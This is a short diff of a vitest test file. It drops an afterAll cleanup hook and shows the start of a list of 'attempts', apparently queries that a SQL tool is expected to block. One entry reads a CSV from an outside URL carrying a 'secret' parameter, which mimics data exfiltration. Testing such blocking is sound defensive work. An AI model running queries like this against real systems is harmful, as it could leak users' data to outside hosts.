@@ -1,7 +1,5 @@
-import { afterAll, describe, expect, test } from "vitest";
-import { closeAll, dropFiles, openPage } from "./open-page";
-
-afterAll(closeAll);
+import { describe, expect, test } from "vitest";
+import { dropFiles, openPage } from "./open-page";
 
 const attempts = [
   "select * from read_csv('https://example.com/leak.csv?secret=1')",
